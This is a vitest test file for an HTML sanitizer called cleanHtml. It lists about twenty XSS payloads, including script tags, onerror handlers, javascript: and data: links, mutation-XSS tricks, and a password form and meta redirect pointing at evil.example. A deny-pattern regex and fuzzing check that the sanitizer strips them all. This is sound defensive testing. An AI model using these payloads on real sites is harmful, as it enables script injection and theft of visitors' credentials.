import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanHtml } from "./cleanHtml.ts";

/** What must never be a tag's name or attribute, whatever went in. */
const dangerous =
  /<\s*\/?\s*(script|style|iframe|object|embed|form|input|svg|math|base|meta|link|template)|\s(on\w+|style|srcdoc|class)\b|<!/i;

/** Looks only at tags, without the values of their attributes: words in a text may say what they like. */
function tagsOf(html: string): string {
  return (html.match(/<(?:"[^"]*"|[^">])*>/g) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""')).join("\n");
}

function expectHarmless(html: string): void {
  expect(tagsOf(html)).not.toMatch(dangerous);
  for (const [, address = ""] of html.matchAll(/<[^>]*\s(?:href|src)="([^"]*)"/g)) {
    expect(address.replace(/[\s\0]/g, "")).not.toMatch(/^(javascript|vbscript|data):|^\/\//i);
  }
}

describe("a script or a style in a page never reaches the visitor", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<svg onload="alert(1)"><script>1</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>1</script>"></iframe>',
    '<form action="https://evil.example"><input name=password></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if IE]><script>1</script><![endif]-->",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<template><script>1</script></template>",
    "<p class=modal id=app data-modal-open>x</p>",
  ];
  test.each(attacks)("%s", (attack) => {
    const clean = cleanHtml(`<p>before</p>${attack}`);
    expectHarmless(clean);
    expect(clean).toContain("<p>before</p>");
    expect(clean).not.toMatch(/evil\.example|\sclass=|\sid="?app/);
  });

  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom("<", ">", '"', "'", "&lt;", "<p>", "</p>", "<a href="),
    fc.string(),
  );
  test("nor however the pieces are put together", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = cleanHtml(pieces.join(""));
        expectHarmless(clean);
        expectHarmless(cleanHtml(clean));
      }),
      { numRuns: 400 },
    );
  });
});

test("what a policy needs stays: headings, lists, tables, links", () => {
  const page =
    '<h2>One</h2><ul><li>a</li></ul><table><thead><tr><th scope="col">x</th></tr></thead></table><a href="/support">help</a>';
  expect(cleanHtml(page)).toBe(page.replace("<h2>", '<h2 id="s-one">'));
});

test("headings get ids of their own words, each once", () => {
  expect(cleanHtml("<h1>Über uns</h1><h2>Über uns</h2>")).toBe(
    '<h2 id="s-uber-uns">Über uns</h2><h2 id="s-uber-uns-2">Über uns</h2>'.normalize("NFC"),
  );
});
